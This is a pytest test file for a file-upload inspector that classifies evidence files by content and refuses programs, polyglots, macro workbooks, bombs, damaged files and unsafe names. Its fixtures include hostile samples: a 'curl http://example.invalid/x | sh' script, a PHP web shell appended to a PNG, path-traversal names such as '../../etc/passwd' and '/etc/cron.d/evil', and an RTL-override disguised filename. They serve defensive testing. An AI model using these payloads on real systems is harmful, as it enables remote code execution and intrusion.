"""What a file is, by its content alone, and every way a file is refused."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from typing import NoReturn

import pytest
from PIL import Image

from domain.calendar import WITA
from domain.refusals import RefusalCode, refusal_text
from evidence import inspect as inspect_module
from evidence.inspect import (
    CODES,
    DOCX,
    JPEG,
    MAX_PIXELS,
    PDF,
    PNG,
    XLSX,
    EvidenceRefused,
    Inspected,
    inspect,
    refusal_code,
    safe_name,
)
from tests.evidence import samples

LIMIT = 10 * 1024 * 1024


def refused(content: bytes, *, max_bytes: int = LIMIT) -> str:
    """The code `inspect` refuses `content` with."""
    with pytest.raises(EvidenceRefused) as caught:
        inspect(content, max_bytes=max_bytes)
    assert caught.value.code in CODES
    return caught.value.code


# --- taken, by content -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "media_type", "kind"),
    [
        (samples.jpeg, JPEG, "photo"),
        (samples.png, PNG, "photo"),
        (samples.pdf, PDF, "pdf"),
        (samples.handmade_pdf, PDF, "pdf"),
        (lambda: samples.handmade_pdf(b"2.0"), PDF, "pdf"),
        (samples.docx, DOCX, "docx"),
        (samples.xlsx, XLSX, "xlsx"),
    ],
)
def test_each_kind_is_taken_and_named_by_its_content(
    build: object, media_type: str, kind: str
) -> None:
    content = build()  # type: ignore[operator]
    found = inspect(content, max_bytes=LIMIT)
    assert (found.media_type, found.kind, found.size) == (media_type, kind, len(content))
    if kind != "photo":
        assert (found.width, found.height, found.taken_at, found.latitude) == (None,) * 4


def test_the_name_plays_no_part_a_pdf_named_jpg_is_a_pdf_and_a_jpeg_named_pdf_a_photo() -> None:
    # inspect takes no name at all: the name is only kept (safe_name), never believed.
    assert safe_name("foto-kegiatan.jpg") == "foto-kegiatan.jpg"
    assert inspect(samples.pdf(), max_bytes=LIMIT).media_type == PDF
    assert safe_name("laporan.pdf") == "laporan.pdf"
    assert inspect(samples.jpeg(), max_bytes=LIMIT).media_type == JPEG


def test_a_photo_reports_its_size_in_pixels() -> None:
    found = inspect(samples.jpeg((64, 48)), max_bytes=LIMIT)
    assert (found.width, found.height) == (64, 48)


# --- EXIF: the time and the place, nothing else ------------------------------------------


def test_the_exif_time_and_place_are_read_south_negative() -> None:
    found = inspect(samples.jpeg(exif=samples.photo_exif()), max_bytes=LIMIT)
    assert found.taken_at == datetime(2026, 3, 14, 9, 30, tzinfo=WITA)
    assert found.latitude == pytest.approx(-(10 + 10 / 60 + 37.92 / 3600))
    assert found.longitude == pytest.approx(123 + 36 / 60 + 25.2 / 3600)
    assert found.latitude == pytest.approx(-10.1772, abs=1e-4)
    assert found.longitude == pytest.approx(123.6070, abs=1e-4)


def test_the_exif_offset_is_used_when_the_camera_wrote_one() -> None:
    exif = samples.photo_exif(offset="+09:00")
    found = inspect(samples.jpeg(exif=exif), max_bytes=LIMIT)
    assert found.taken_at is not None
    assert found.taken_at.utcoffset() == timedelta(hours=9)
    assert found.taken_at == datetime(2026, 3, 14, 0, 30, tzinfo=UTC)


def test_west_is_negative_and_north_positive() -> None:
    exif = samples.photo_exif(gps=("N", (8.0, 30.0, 0.0), "W", (70.0, 15.0, 0.0)))
    found = inspect(samples.jpeg(exif=exif), max_bytes=LIMIT)
    assert (found.latitude, found.longitude) == (8.5, -70.25)


def test_a_photo_without_exif_or_with_a_blank_time_has_none() -> None:
    bare = inspect(samples.jpeg(), max_bytes=LIMIT)
    assert (bare.taken_at, bare.latitude, bare.longitude) == (None, None, None)
    blank = samples.photo_exif(taken="    :  :     :  :  ", gps=None)
    found = inspect(samples.jpeg(exif=blank), max_bytes=LIMIT)
    assert (found.taken_at, found.latitude) == (None, None)


def test_the_camera_serial_and_owner_never_come_out() -> None:
    content = samples.jpeg(exif=samples.photo_exif())
    assert samples.SERIAL.encode() in content  # planted
    found = inspect(content, max_bytes=LIMIT)
    assert samples.SERIAL not in repr(found) and samples.OWNER not in repr(found)
    assert set(Inspected.__dataclass_fields__) == {
        "media_type",
        "kind",
        "size",
        "width",
        "height",
        "taken_at",
        "latitude",
        "longitude",
    }


def test_a_turned_photo_reports_its_size_as_shown() -> None:
    # Stored landscape, shown portrait: EXIF orientation 6 turns it a quarter clockwise.
    content = samples.jpeg((64, 48), exif=samples.photo_exif(orientation=6))
    found = inspect(content, max_bytes=LIMIT)
    assert (found.width, found.height) == (48, 64)


# --- refused: size -----------------------------------------------------------------------


def test_an_empty_file_is_refused() -> None:
    assert refused(b"") == "empty"


def test_an_oversized_file_is_refused_with_its_size_and_the_limit() -> None:
    content = samples.pdf()
    with pytest.raises(EvidenceRefused) as caught:
        inspect(content, max_bytes=len(content) - 1)
    assert caught.value.code == "too_large"
    assert caught.value.params == {"size": f"{len(content):,}", "limit": f"{len(content) - 1:,}"}
    assert inspect(content, max_bytes=len(content)).kind == "pdf"  # the limit itself is taken


# --- refused: programs and other types ---------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        # A Windows program an officer's laptop would run, renamed laporan.pdf.
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"%PDF-1.4\n%%EOF",
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120,
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
        b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    ],
    ids=["windows-pe-named-laporan.pdf", "elf", "mach-o", "shebang-script"],
)
def test_programs_are_refused_whatever_they_are_named(content: bytes) -> None:
    assert refused(content) == "executable"


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        b"Laporan triwulan I: semua kegiatan selesai.\n",
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,  # a legacy .doc/.xls
        samples.zipped([("catatan.txt", b"bukan dokumen Office")]),
        samples.zipped(
            [
                ("[Content_Types].xml", samples.content_types("docx")),
                ("ppt/presentation.xml", b"<p:presentation/>"),
            ]
        ),
    ],
    ids=["gif", "text", "html", "svg", "ole-doc", "plain-zip", "pptx"],
)
def test_anything_but_the_five_kinds_is_the_wrong_type(content: bytes) -> None:
    assert refused(content) == "wrong_type"


def test_a_macro_enabled_workbook_is_refused() -> None:
    assert refused(samples.with_macros(samples.xlsx())) == "wrong_type"


def test_a_workbook_declaring_macros_is_refused_even_without_the_vba_part() -> None:
    content = samples.zipped(
        [
            ("[Content_Types].xml", samples.content_types("xlsx", macros=True)),
            ("xl/workbook.xml", b"<workbook/>"),
        ]
    )
    assert refused(content) == "wrong_type"


# --- refused: polyglots ------------------------------------------------------------------


def test_a_jpeg_with_a_zip_appended_is_a_polyglot() -> None:
    payload = samples.zipped([("setup.exe", b"MZ" + b"\x00" * 200)])
    assert refused(samples.jpeg() + payload) == "polyglot"


def test_a_jpeg_with_a_zip_and_a_forged_end_marker_is_still_a_polyglot() -> None:
    # Searching for the last FFD9 would stop here; walking the segments does not.
    payload = samples.zipped([("x.txt", b"rahasia")])
    assert refused(samples.jpeg() + payload + b"\xff\xd9") == "polyglot"


def test_a_jpeg_with_a_pdf_appended_is_a_polyglot() -> None:
    assert refused(samples.jpeg() + samples.handmade_pdf()) == "polyglot"


def test_a_png_with_a_script_after_iend_is_a_polyglot() -> None:
    assert refused(samples.png() + b"<?php system($_GET['c']); ?>") == "polyglot"


def test_a_pdf_with_bytes_before_its_header_is_a_polyglot() -> None:
    assert refused(b"GIF89a;" + samples.handmade_pdf()) == "polyglot"
    assert refused(b"\x00" * 16 + samples.handmade_pdf()) == "polyglot"


def test_a_little_zero_padding_after_a_photo_is_taken_but_not_more() -> None:
    assert inspect(samples.jpeg() + b"\x00" * 1024, max_bytes=LIMIT).kind == "photo"
    assert inspect(samples.png() + b"\x00" * 100, max_bytes=LIMIT).kind == "photo"
    assert refused(samples.jpeg() + b"\x00" * 1025) == "polyglot"
    assert refused(samples.jpeg() + b"\x00" * 10 + b"x") == "polyglot"


def test_a_phone_photo_with_a_gain_map_appended_is_taken() -> None:
    # Ultra HDR and MPF: whole JPEGs after the first are part of one photo.
    gain_map = samples.jpeg((16, 12), colour=(128, 128, 128))
    found = inspect(samples.jpeg((64, 48)) + gain_map, max_bytes=LIMIT)
    assert (found.kind, found.width, found.height) == ("photo", 64, 48)
    assert refused(samples.jpeg() + gain_map[: len(gain_map) // 2]) == "polyglot"


def test_an_office_file_with_a_member_outside_its_folder_is_refused() -> None:
    for name in ("../../evil.sh", "/etc/cron.d/evil", "word/..\\..\\evil.bat", "C:/x.exe"):
        assert refused(samples.docx(extra=[(name, b"x")])) == "polyglot", name


# --- refused: bombs ----------------------------------------------------------------------


def _no_decoding(*_args: object, **_kwargs: object) -> NoReturn:
    raise AssertionError("Pillow was asked to open the picture")


def test_a_decompression_bomb_png_is_refused_from_its_header_alone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # 20000 x 20000 = 400 megapixels, over a gigabyte once decoded, in a few dozen KB.
    bomb = samples.png_bomb(20_000, 20_000)
    assert len(bomb) < 200_000
    # Refused before Pillow is asked anything: nothing is decoded, nothing allocated.
    monkeypatch.setattr(Image, "open", _no_decoding)
    assert refused(bomb) == "bomb"


def test_a_picture_over_our_limit_but_under_pillows_is_a_bomb_too(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    width, height = 8_000, 6_000  # 48 MP: below Pillow's own warning, above ours
    assert width * height > MAX_PIXELS
    bomb = samples.png_bomb(width, height)
    monkeypatch.setattr(Image, "open", _no_decoding)
    assert refused(bomb) == "bomb"


def test_a_jpeg_claiming_a_huge_frame_is_a_bomb(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "open", _no_decoding)
    assert refused(samples.jpeg_claiming(30_000, 30_000)) == "bomb"


def test_pillows_own_bomb_guard_is_reported_as_a_bomb(monkeypatch: pytest.MonkeyPatch) -> None:
    # Should Pillow's limit ever sit below ours, its refusal still reads as a bomb.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)
    assert refused(samples.jpeg((64, 48))) == "bomb"


def test_a_zip_bomb_docx_is_refused_by_its_ratio() -> None:
    # 20 MB of zeros packed into some 20 KB: a thousand to one.
    bomb = samples.streamed_zip(
        "word/media/zeros.bin",
        20,
        extra=[
            ("[Content_Types].xml", samples.content_types("docx")),
            ("word/document.xml", b"<w:document/>"),
        ],
    )
    assert len(bomb) < 100_000
    assert refused(bomb) == "bomb"


def test_a_docx_unpacking_to_more_than_the_limit_is_a_bomb(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Members that compress poorly (no ratio to see) but add up to more than allowed;
    # the limit is lowered so the test need not write 100 MB.
    monkeypatch.setattr(inspect_module, "MAX_UNPACKED", 2 * 1024 * 1024)
    noise = random.Random(15).randbytes(768 * 1024)
    content = samples.docx(extra=[(f"word/media/image{i}.bin", noise) for i in range(3)])
    assert refused(content) == "bomb"
    monkeypatch.setattr(inspect_module, "MAX_UNPACKED", 4 * 1024 * 1024)
    assert inspect(content, max_bytes=LIMIT).kind == "docx"


# --- refused: damaged --------------------------------------------------------------------


def test_a_truncated_jpeg_is_damaged() -> None:
    content = samples.jpeg((256, 192))
    assert refused(content[: len(content) // 2]) == "damaged"
    assert refused(content[:-2]) == "damaged"  # only its end marker missing


def test_a_truncated_png_is_damaged() -> None:
    content = samples.png((64, 64))
    assert refused(content[: len(content) - 20]) == "damaged"


def test_a_png_with_a_bad_checksum_is_damaged() -> None:
    content = bytearray(samples.png((64, 64)))
    idat = content.index(b"IDAT")
    content[idat + 6] ^= 0xFF  # a flipped byte inside the picture data
    assert refused(bytes(content)) == "damaged"


def test_a_truncated_pdf_is_damaged() -> None:
    content = samples.pdf()
    assert refused(content[: len(content) // 2]) == "damaged"


def test_a_corrupt_zip_is_damaged() -> None:
    content = samples.docx()
    assert refused(content[: len(content) // 2]) == "damaged"
    assert refused(b"PK\x03\x04" + b"\x00" * 60) == "damaged"


# --- names -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "C:\\x.pdf",
        "C:x.pdf",
        "foto\x00.jpg",
        "foto\n.jpg",
        "laporan\u202efdp.exe",  # shows as "laporanexe.pdf"
        "",
        "   ",
        "..",
        "folder/foto.jpg",
        "a" * 201,
    ],
)
def test_a_name_that_is_a_path_or_holds_control_characters_is_refused(name: str) -> None:
    with pytest.raises(EvidenceRefused) as caught:
        safe_name(name)
    assert caught.value.code == "bad_name"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("Foto kegiatan simulasi 2026.jpg", "Foto kegiatan simulasi 2026.jpg"),
        ("Daftar hadir — Desa Oelnasi.pdf", "Daftar hadir — Desa Oelnasi.pdf"),
        ("  Notulen rapat.docx  ", "Notulen rapat.docx"),
        ("Rekap Sikka e\u0301.xlsx", "Rekap Sikka \u00e9.xlsx"),  # NFC: one é
        ("..foto.jpg", "..foto.jpg"),
        ("a" * 200, "a" * 200),
    ],
)
def test_a_normal_name_is_kept_normalised(name: str, kept: str) -> None:
    assert safe_name(name) == kept


# --- the refusal words -------------------------------------------------------------------


def test_every_code_has_its_words_in_both_languages() -> None:
    params: dict[str, dict[str, str | int]] = {"too_large": {"size": "12,345", "limit": "10"}}
    for code in CODES:
        words = refusal_code(code)
        assert words == RefusalCode(f"evidence_{code}")
        english = refusal_text(words, params.get(code, {}), "en")
        indonesian = refusal_text(words, params.get(code, {}), "id")
        assert english not in ("The request was refused.", indonesian)
        assert indonesian != "Permintaan ditolak."


def test_an_unknown_code_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="one of empty"):
        refusal_code("nope")
    with pytest.raises(ValueError):
        EvidenceRefused("nope")
